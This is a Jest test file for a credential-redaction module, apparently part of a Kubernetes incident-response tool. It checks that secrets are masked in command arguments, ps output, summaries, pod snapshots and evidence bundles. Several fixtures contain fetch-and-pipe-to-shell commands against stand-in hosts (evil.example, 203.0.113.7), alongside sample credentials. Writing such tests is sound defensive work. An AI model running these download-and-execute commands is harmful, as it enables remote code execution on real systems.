// Credential redaction (src/core/summary/redact.ts) and where it is applied: the
// summary (so every sink, the ledger and the log line), capture-process-list
// output at source, the pod snapshot's annotations and the evidence bundle.
import { describe, expect, it } from '@jest/globals';
import { redactPod } from '../src/actions/snapshots.ts';
import type { Pod } from '../src/actions/kube-api.ts';
import { formatChat } from '../src/core/summary/chat/format.ts';
import { bundleObjects, DEPTH_LIMIT, MAX_BUNDLE_DEPTH } from '../src/core/evidence/bundle.ts';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { plan as makePlan } from '../src/core/plan/plan.ts';
import { validatePolicy, type Policy } from '../src/core/policy/policy.ts';
import { isSecretName, MAX_REDACT_INPUT, redactArgs, redactText } from '../src/core/summary/redact.ts';
import { formatSlack } from '../src/core/summary/slack/format.ts';
import type { Summary } from '../src/core/summary/document.ts';
import { harness } from './actions/harness.ts';
import { checkoutPod } from './support/kube-seed.ts';
import { notificationV1 } from './support/fixtures.ts';
import { summaryFor } from './support/summaries.ts';

const NOW = new Date('2026-11-20T14:03:40.000Z');

describe('redactArgs: each credential form, the rest kept readable', () => {
  const cases: [string, string[], string[]][] = [
    ['Authorization header as one arg', ['curl', '-s', '-H', 'Authorization: Bearer abc123', 'https://api.example/v1'], ['curl', '-s', '-H', 'Authorization: Bearer <redacted>', 'https://api.example/v1']],
    ['Authorization header split over args', ['curl', '-H', 'Authorization:', 'Bearer', 'abc123', 'https://x'], ['curl', '-H', 'Authorization:', 'Bearer', '<redacted>', 'https://x']],
    ['header value in the next arg', ['curl', '-H', 'Authorization:', 'Basic dXNlcjpwYXNz', 'https://x'], ['curl', '-H', 'Authorization:', 'Basic <redacted>', 'https://x']],
    ['no space after the colon', ['curl', '--header=Authorization:Bearer', 'abc123'], ['curl', '--header=Authorization:Bearer', '<redacted>']],
    [
      'Proxy-Authorization, X-Api-Key, Cookie',
      ['curl', '-H', 'Proxy-Authorization: Basic dXNlcjpwYXNz', '-H', 'X-Api-Key: k-123', '-H', 'Cookie: sid=abc; theme=dark', 'example.com'],
      ['curl', '-H', 'Proxy-Authorization: Basic <redacted>', '-H', 'X-Api-Key: <redacted>', '-H', 'Cookie: <redacted>; <redacted>', 'example.com'],
    ],
    ['a bare Cookie: takes the next arg', ['curl', '-H', 'Cookie:', 'sid=abc; theme=dark', 'example.com'], ['curl', '-H', 'Cookie:', '<redacted>', 'example.com']],
    [
      'URL userinfo',
      ['git', 'clone', 'https://deploy:s3cret@git.example/r.git', 'https://ghtoken@git.example/r2.git', 'redis://:pw@cache:6379/0'],
      ['git', 'clone', 'https://deploy:<redacted>@git.example/r.git', 'https://<redacted>@git.example/r2.git', 'redis://:<redacted>@cache:6379/0'],
    ],
    ['mysql -p<value>, -P is the port', ['mysql', '-h', 'db', '-P3306', '-uroot', '-pS3cret', 'orders'], ['mysql', '-h', 'db', '-P3306', '-uroot', '-p<redacted>', 'orders']],
    ['mysql -p alone prompts: the next arg is the database', ['/usr/bin/mysqldump', '-p', 'orders'], ['/usr/bin/mysqldump', '-p', 'orders']],
    // Found by red-teaming: a tool's rules end with its command; quoted flags; an empty `--x=`.
    [
      'a shell separator ends the mysql rules: the next command\'s --password is secret again',
      ['sh', '-c', 'mysql -uroot -pS3cret db; ./deploy --password Hunt3rSecret && echo ok'],
      ['sh', '-c', 'mysql -uroot -p<redacted> db; ./deploy --password <redacted> && echo ok'],
    ],
    ['a quoted secret flag inside a script', ['sh', '-c', "./x '--token' 'Hunt3rSecret'"], ['sh', '-c', "./x '--token' '<redacted>'"]],
    ['--password= with the value in the next arg', ['x', '--password=', 'Hunt3rSecret'], ['x', '--password=', '<redacted>']],
    ['docker login -p (docker run -p is a port)', ['sh', '-c', 'docker login -u ci -p Hunt3rSecret r.example && docker run -p 8080:80 app'], ['sh', '-c', 'docker login -u ci -p <redacted> r.example && docker run -p 8080:80 app']],
    ['curl -b cookie string', ['curl', '-b', 'sid=Hunt3rSecret', 'https://x'], ['curl', '-b', '<redacted>', 'https://x']],
    ['keytool store and key passwords', ['keytool', '-importkeystore', '-storepass', 'Hunt3rSecret', '-keypass', 'Hunt4rSecret'], ['keytool', '-importkeystore', '-storepass', '<redacted>', '-keypass', '<redacted>']],
    ['zip -P, 7z -p<value>, openssl -k / -pass', ['sh', '-c', 'zip -P Hunt3rSecret o.zip f; 7z a -pHunt4rSecret o.7z f; openssl enc -k Hunt5rSecret -pass pass:Hunt6rSecret'], ['sh', '-c', 'zip -P <redacted> o.zip f; 7z a -p<redacted> o.7z f; openssl enc -k <redacted> -pass <redacted>']],
    ['-p<value> means nothing for other tools', ['db-client', '-pS3cret'], ['db-client', '-pS3cret']],
    [
      'a tool named inside a script is that script\'s, not the argv\'s',
      ['/bin/sh', '-c', 'mysql -pA db', '--password', 'B', '-pC'],
      ['/bin/sh', '-c', 'mysql -p<redacted> db', '--password', '<redacted>', '-pC'],
    ],
    [
      'secret flags, = or the next arg',
      ['app', '--password=hunter2', '--passwd', 'x1', '--token', 'x2', '--secret=x3', '--key', 'x4', '--api-key=x5', '--access-key', 'x6', '--client-secret', 'x7'],
      ['app', '--password=<redacted>', '--passwd', '<redacted>', '--token', '<redacted>', '--secret=<redacted>', '--key', '<redacted>', '--api-key=<redacted>', '--access-key', '<redacted>', '--client-secret', '<redacted>'],
    ],
    [
      'NAME=value with a secret-looking NAME',
      ['env', 'AWS_SECRET_ACCESS_KEY=wJalr/K7+MDENG', 'DB_PASSWORD=x', 'GITHUB_TOKEN=y', 'PRIVATE_KEY=z', 'apiKey=q', '-Djavax.net.ssl.keyStorePassword=k'],
      ['env', 'AWS_SECRET_ACCESS_KEY=<redacted>', 'DB_PASSWORD=<redacted>', 'GITHUB_TOKEN=<redacted>', 'PRIVATE_KEY=<redacted>', 'apiKey=<redacted>', '-Djavax.net.ssl.keyStorePassword=<redacted>'],
    ],
    ['curl -u user:password', ['curl', '-u', 'user:pw', '-uadmin:pw2', 'https://x'], ['curl', '-u', 'user:<redacted>', '-uadmin:<redacted>', 'https://x']],
    ['sshpass, redis-cli', ['sshpass', '-p', 'pw', 'ssh', 'host', 'redis-cli', '-a', 'pw2', 'get', 'k'], ['sshpass', '-p', '<redacted>', 'ssh', 'host', 'redis-cli', '-a', '<redacted>', 'get', 'k']],
    ['URL query parameters', ['curl', 'https://h/cb?access_token=abc&state=1#top'], ['curl', 'https://h/cb?access_token=<redacted>&state=1#top']],
    ['JSON', ['app', '{"password":"p1","user":"u","private_key_id":"abc"}'], ['app', '{"password":"<redacted>","user":"u","private_key_id":"<redacted>"}']],
    [
      'token shapes anywhere',
      ['x', 'AKIAIOSFODNN7EXAMPLE', 'AIzaSyA-1234567890abcdefghijklmnopqrstu', 'ghp_abcdefghijklmnopqrstuvwxyz0123', 'github_pat_11ABCDEFG0123456789_abcdefghij', 'xoxb-123-456-abcdefghij', 'sk_live_EXAMPLEDONOTUSE0000000000', 'rk_test_abcdefghijkl', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig_abc-123'],
      ['x', '<redacted>', '<redacted>', '<redacted>', '<redacted>', '<redacted>', '<redacted>', '<redacted>', '<redacted>'],
    ],
    ['a token inside a longer value', ['--data', 'id:AKIAIOSFODNN7EXAMPLE,user=x'], ['--data', 'id:<redacted>,user=x']],
    [
      'a whole script in one arg',
      ['/bin/sh', '-c', 'curl -s -H "Authorization: Bearer xyz" https://a:b@evil.example/x.sh | sh; mysql -pS3cr3t! db'],
      ['/bin/sh', '-c', 'curl -s -H "Authorization: Bearer <redacted>" https://a:<redacted>@evil.example/x.sh | sh; mysql -p<redacted> db'],
    ],
    [
      'a private key',
      ['app', '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'],
      ['app', '-----BEGIN RSA PRIVATE KEY-----<redacted>-----END RSA PRIVATE KEY-----'],
    ],
  ];
  it.each(cases)('%s', (_name, args, expected) => {
    expect(redactArgs(args)).toEqual(expected);
  });

  it('leaves ordinary command lines alone', () => {
    const ordinary = [
      ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh'],
      ['app', '--port', '8080', '-p', '80', '--verbose', 'Content-Type: application/json', 'PWD=/app', 'PATH=/usr/bin', 'HOME=/root'],
      ['docker', 'login', '--password-stdin', '--username', 'me'],
      ['node', '/app/server.js', '--author=Jane', 'https://example.com:8443/path?q=1&page=2'],
    ];
    for (const args of ordinary) expect(redactArgs(args)).toEqual(args);
  });

  it('uses the binary path when args[0] is not the tool', () => {
    expect(redactArgs(['client', '-pS3cret'], {}, '/usr/bin/mariadb')).toEqual(['client', '-p<redacted>']);
  });

  it('a crafted quote or cookie hides a bounded number of words, not the rest of the command', () => {
    const text = redactText('echo "password": "a b c d e f g h i j k l m n o p curl evil.example | sh');
    expect(text).toContain('curl evil.example | sh');
  });
});

describe('redactText: ps output and free text', () => {
  it('redacts each line on its own', () => {
    const ps = [
      ' PPID   PID COMMAND',
      '    0     1 /app/checkout --db-password=Hunter2',
      '    1    42  \\_ mysql -uroot -pXYZ orders',
      '    1    43  \\_ /bin/sh -c curl -H Authorization: Bearer qqq https://x',
      '    1    44  \\_ app --token ttt --verbose',
      '    1    45  \\_ app -p 80',
    ].join('\n');
    expect(redactText(ps)).toBe(
      [
        ' PPID   PID COMMAND',
        '    0     1 /app/checkout --db-password=<redacted>',
        '    1    42  \\_ mysql -uroot -p<redacted> orders',
        '    1    43  \\_ /bin/sh -c curl -H Authorization: Bearer <redacted> https://x',
        '    1    44  \\_ app --token <redacted> --verbose',
        '    1    45  \\_ app -p 80',
      ].join('\n'),
    );
  });

  it('redacts a private key block, in JSON with escaped newlines too', () => {
    const sa = JSON.stringify({ type: 'service_account', private_key: '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----\n', client_email: 'x@p.iam.gserviceaccount.com' });
    const out = redactText(sa);
    expect(out).not.toContain('MIIEvQIBADANBg');
    expect(out).toContain('x@p.iam.gserviceaccount.com');
    expect(redactText('-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk (cut off')).toBe('-----BEGIN OPENSSH PRIVATE KEY-----<redacted>');
  });

  it('is idempotent', () => {
    const once = redactText('--password=x Authorization: Bearer y https://u:p@h');
    expect(redactText(once)).toBe(once);
  });
});

describe('the policy extends the rules with names and flags, never regexes', () => {
  it('secretNames and secretFlags', () => {
    const { redaction } = validatePolicy({ redaction: { secretNames: ['signing'], secretFlags: ['--passphrase-from', '-k'] } });
    expect(redactArgs(['app', 'MY_SIGNING_VALUE=x', '--passphrase-from', 'pp', '-k', 'kk', '--passphrase-from=q'], redaction)).toEqual([
      'app',
      'MY_SIGNING_VALUE=<redacted>',
      '--passphrase-from',
      '<redacted>',
      '-k',
      '<redacted>',
      '--passphrase-from=<redacted>',
    ]);
    // Without the policy, those are ordinary.
    expect(redactArgs(['app', 'MY_SIGNING_VALUE=x', '-k', 'kk'])).toEqual(['app', 'MY_SIGNING_VALUE=x', '-k', 'kk']);
    expect(isSecretName('SIGNING_SALT', redaction)).toBe(true);
  });

  it('defaults, and refuses what looks like a regex', () => {
    expect(validatePolicy({}).redaction).toEqual({ secretNames: [], secretFlags: [], keepRawArgsInBundle: false });
    expect(() => validatePolicy({ redaction: { secretNames: ['(a+)+$'] } })).toThrow(/redaction\.secretNames\[0\]/);
    expect(() => validatePolicy({ redaction: { secretFlags: ['passphrase'] } })).toThrow(/redaction\.secretFlags\[0\]/);
    expect(() => validatePolicy({ redaction: { keepRawArgs: true } })).toThrow(/unknown field/);
  });
});

describe('hostile input is redacted in linear time', () => {
  const fill = (unit: string, size: number) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  // Each one makes a backtracking or rescanning implementation quadratic (or worse).
  const hostile = [
    'eyJ-', 'eyJaaaaaaaaa.', 'ghp_', 'github_pat_', 'AKIA', 'a=', 'password=', 'token:', '"password":"', '"password":"\\',
    'a://', 'a://b:c@', 'x://a:', '-----BEGIN ', '-----BEGIN A A A A PRIVATE KEY', '--token ', 'Authorization: ',
    '"password": "a ', 'mysql -px ', '--token\n', 'Cookie: a ', '\ud83d\ude00', '\ud800',
  ];

  it('1 MB of each pattern is cut to MAX_REDACT_INPUT first, as text and as args', () => {
    for (const unit of hostile) {
      const text = fill(unit, 1 << 20);
      expect(redactText(text).length).toBeLessThanOrEqual(MAX_REDACT_INPUT * 11);
      expect(redactArgs([text, text]).every((a) => a.length <= MAX_REDACT_INPUT * 11)).toBe(true);
    }
  });

  it('and below that bound the work is linear: 512 KB of each pattern, unbounded, in seconds', () => {
    // Linear work is about a second in all on a loaded 2-core machine; one quadratic pattern alone takes minutes.
    const started = performance.now();
    for (const unit of hostile) redactText(fill(unit, 1 << 19), {}, 1 << 19);
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

const policyWith = (extra: Record<string, unknown> = {}): Policy =>
  validatePolicy({ dryRun: false, rules: [{ name: 'contain', actions: ['label-pod', 'capture-process-list'] }], ...extra });

function hostileNotification(): Record<string, any> {
  const n = structuredClone(notificationV1());
  n.finding.processes[0].args = ['/bin/sh', '-c', 'curl -H "Authorization: Bearer sh-bearer-0001" https://ops:UrlPass0001@203.0.113.7/x.sh | sh'];
  n.finding.processes[1].args = ['node', '/app/server.js', '--db-password=ParentPass0001', '--token', 'ParentTok0001'];
  return n;
}

function summaryOf(notification: Record<string, any>, policy: Policy, details?: Record<string, string>): Summary {
  return summaryFor(notification, {
    policy,
    outcomes: [
      { type: 'label-pod', status: 'done', reason: 'labelled' },
      { type: 'capture-process-list', status: 'done', reason: 'captured', ...(details ? { details } : {}) },
    ],
    warnings: ['exec said: Authorization: Bearer warn-bearer-0001'],
    evidence: {
      queries: [{ kind: 'pod-logs', filter: 'f', url: null, count: 1, excerpts: ['connecting to postgres://app:ExcerptPass0001@db/app'], incomplete: null }],
      links: {},
      bundle: null,
      notes: [],
    },
  });
}

describe('the summary carries redacted args, results and excerpts, in every rendering', () => {
  const SECRETS = ['sh-bearer-0001', 'UrlPass0001', 'ParentPass0001', 'ParentTok0001', 'PsPass0001', 'warn-bearer-0001', 'ExcerptPass0001'];

  it('redacts before bounding, and no sink format sees a secret', () => {
    const s = summaryOf(hostileNotification(), policyWith(), { processList: '  1 42 \\_ mysql -pPsPass0001 db' });
    expect(s.processes.child?.args[2]).toBe('curl -H "Authorization: Bearer <redacted>" https://ops:<redacted>@203.0.113.7/x.sh | sh');
    expect(s.processes.parent?.args).toEqual(['node', '/app/server.js', '--db-password=<redacted>', '--token', '<redacted>']);
    expect(s.actions[1]?.details?.processList).toBe('  1 42 \\_ mysql -p<redacted> db');
    for (const payload of [JSON.stringify(s), JSON.stringify(formatSlack(s)), JSON.stringify(formatChat(s))]) {
      for (const secret of SECRETS) expect(payload).not.toContain(secret);
    }
  });

  it('a secret longer than maxArgLength is still recognised (redaction runs before the cut)', () => {
    const n = hostileNotification();
    n.finding.processes[0].args = ['app', `--password=${'p'.repeat(300)}LongPass0001`];
    const s = summaryOf(n, policyWith({ summary: { maxArgLength: 32 } }));
    expect(s.processes.child?.args[1]).toBe('--password=<redacted>');
    expect(JSON.stringify(s)).not.toContain('ppppp');
  });
});

describe('capture-process-list redacts at source (the outcome goes to the ledger as is)', () => {
  it('ps output and stderr', async () => {
    const h = await harness({ actions: ['capture-process-list'] });
    try {
      h.fake.state.exec = () => ({
        stdout: '  PID COMMAND\n    1 /app/checkout --api-key=PsKey0001\n   42  \\_ mysql -uroot -pPsPass0001 db\n',
        stderr: 'warning: token=PsErr0001\n',
      });
      const result = await h.contain();
      const outcome = result.outcomes[0]!;
      expect(outcome.status).toBe('done');
      expect(outcome.details?.processList).toBe('  PID COMMAND\n    1 /app/checkout --api-key=<redacted>\n   42  \\_ mysql -uroot -p<redacted> db\n');
      expect(JSON.stringify(result)).not.toMatch(/PsKey0001|PsPass0001/);
    } finally {
      await h.fake.close();
    }
  });
});

describe('the pod snapshot drops spec copies kept in annotations', () => {
  it('last-applied-configuration and any JSON document annotation', () => {
    const pod = checkoutPod() as unknown as Pod;
    const lastApplied = JSON.stringify({ spec: { containers: [{ env: [{ name: 'STRIPE_API_KEY', value: 'sk_live_do_not_leak' }] }] } });
    // JSON.parse makes "__proto__" an own key, as a decoded API response would.
    pod.metadata.annotations = JSON.parse(
      `{${[
        ['kubectl.kubernetes.io/last-applied-configuration', lastApplied],
        ['example.com/config', ' [{"password":"AnnPass0001"}]'],
        ['example.com/owner', 'team-payments'],
        ['__proto__', '{"x":"ProtoPass0001"}'],
      ]
        .map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`)
        .join(',')}}`,
    );
    const copy = redactPod(pod) as { metadata: { annotations: Record<string, string> } };
    const text = JSON.stringify(copy);
    for (const secret of ['sk_live_do_not_leak', 'AnnPass0001', 'ProtoPass0001']) expect(text).not.toContain(secret);
    expect(copy.metadata.annotations['kubectl.kubernetes.io/last-applied-configuration']).toBe('<redacted>');
    expect(copy.metadata.annotations['example.com/owner']).toBe('team-payments');
    expect(Object.hasOwn(copy.metadata.annotations, '__proto__')).toBe(true);
  });
});

describe('the evidence bundle', () => {
  const pod = {
    metadata: { name: 'checkout-7c9f8d6b5-q2w8x' },
    spec: { containers: [{ name: 'checkout', command: ['mysqld-wrapper'], args: ['--root-password=PodPass0001'], env: [{ name: 'DB_PASSWORD', value: 'EnvPass0001' }] }] },
  };

  function objects(policy: Policy) {
    const notification = hostileNotification();
    const plan = makePlan(decodeInput(notification), policy, NOW);
    const out = bundleObjects({ plan, notification, snapshots: { pod }, logs: [], revealEnvValues: [], redaction: policy.redaction });
    return Object.fromEntries(out.map((o) => [o.name, new TextDecoder().decode(o.bytes)]));
  }

  it('redacts process and container args by default; env values always', () => {
    const files = objects(policyWith());
    for (const secret of ['sh-bearer-0001', 'UrlPass0001', 'ParentPass0001', 'ParentTok0001']) {
      expect(files['finding.json']).not.toContain(secret);
      expect(files['plan.json']).not.toContain(secret);
    }
    expect(files['snapshots/pod.json']).not.toContain('PodPass0001');
    expect(files['snapshots/pod.json']).toContain('--root-password=<redacted>');
    expect(files['snapshots/pod.json']).not.toContain('EnvPass0001');
    expect(files['finding.json']).not.toContain('sk_live_EXAMPLEDONOTUSE0000000000');
  });

  it('keeps raw args only when the policy opts in', () => {
    const files = objects(policyWith({ redaction: { keepRawArgsInBundle: true } }));
    expect(files['finding.json']).toContain('ParentPass0001');
    expect(files['plan.json']).toContain('sh-bearer-0001');
    expect(files['snapshots/pod.json']).toContain('PodPass0001');
    expect(files['snapshots/pod.json']).not.toContain('EnvPass0001');
    expect(files['finding.json']).not.toContain('sk_live_EXAMPLEDONOTUSE0000000000');
  });

  it('walks nesting with a bound', () => {
    const notification = structuredClone(notificationV1());
    let deep: Record<string, unknown> = {};
    notification.finding.sourceProperties.deep = deep;
    for (let i = 0; i < 10_000; i++) deep = (deep.next = {}) as Record<string, unknown>;
    const plan = makePlan(decodeInput(notification), policyWith(), NOW);
    const out = bundleObjects({ plan, notification, snapshots: {}, logs: [], revealEnvValues: [] });
    const finding = new TextDecoder().decode(out[0]!.bytes);
    expect(finding).toContain(DEPTH_LIMIT);
    expect(finding.split('"next"').length - 1).toBeLessThan(MAX_BUNDLE_DEPTH);
  });
});
